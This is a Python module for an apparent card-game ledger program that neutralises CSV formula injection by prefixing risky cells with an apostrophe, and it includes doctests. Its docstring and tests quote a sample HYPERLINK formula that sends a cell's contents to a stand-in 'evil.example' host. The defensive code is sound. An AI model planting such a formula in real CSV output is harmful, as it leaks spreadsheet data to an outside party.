"""CSV cells a spreadsheet shows as text, never runs as a formula (the one CSV writer of the program).

A spreadsheet (Excel, LibreOffice Calc, Google Sheets) opening a CSV file
runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula, and
some also one that starts with a tab or a carriage return: a player named
``=HYPERLINK("http://evil.example/?"&A1, "win")`` or a hand folder named
``@SUM(1+1)`` would become a live formula in the organiser's sheet. Following
the OWASP rule for CSV injection, :func:`spreadsheet_cell` puts an apostrophe
before such a cell, which the spreadsheet shows as text (and hides); the
cell's characters are otherwise unchanged. A number stays a number: an
``int`` or ``float``, or a text that is one (``-15``, ``-2.5``, and a
chip share ``-15/2`` as the ledger writes it), is written as it is.

``ledger --csv`` and ``score --csv`` write through :func:`csv_writer`.
"""

from __future__ import annotations

import csv
import re
from typing import Any, Iterable, TextIO

__all__ = ["FORMULA_STARTS", "spreadsheet_cell", "csv_writer", "SpreadsheetWriter"]

#: The first characters that make a spreadsheet read a cell as a formula (OWASP, "CSV Injection").
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
#: A number as this program writes one: a whole or decimal number, or a chip share ``a/b``, optionally negative.
_NUMBER = re.compile(r"-?[0-9]+(?:\.[0-9]+|/[0-9]+)?")


def spreadsheet_cell(value: Any) -> Any:
    """``value`` as a CSV cell a spreadsheet shows as text: an apostrophe before a text starting with
    one of :data:`FORMULA_STARTS` that is not a number; anything else unchanged.

    >>> spreadsheet_cell('=HYPERLINK("http://evil.example")'), spreadsheet_cell("@SUM(1)"), spreadsheet_cell("\\tx")
    ('\\'=HYPERLINK("http://evil.example")', "'@SUM(1)", "'\\tx")
    >>> spreadsheet_cell(-15), spreadsheet_cell("-15"), spreadsheet_cell("-15/2"), spreadsheet_cell("-1+1")
    (-15, '-15', '-15/2', "'-1+1")
    """
    if not isinstance(value, str) or not value.startswith(FORMULA_STARTS) or _NUMBER.fullmatch(value):
        return value
    return "'" + value


class SpreadsheetWriter:
    """:func:`csv.writer` whose every cell goes through :func:`spreadsheet_cell`."""

    def __init__(self, stream: TextIO, **kwargs: Any) -> None:
        self._writer = csv.writer(stream, **kwargs)

    def writerow(self, row: Iterable[Any]) -> Any:
        """Write one row (a sequence of cells)."""
        return self._writer.writerow([spreadsheet_cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        """Write every row of ``rows``."""
        for row in rows:
            self.writerow(row)


def csv_writer(stream: TextIO, **kwargs: Any) -> SpreadsheetWriter:
    """A CSV writer on ``stream`` (``kwargs`` as for :func:`csv.writer`) whose cells a spreadsheet shows as text."""
    return SpreadsheetWriter(stream, **kwargs)
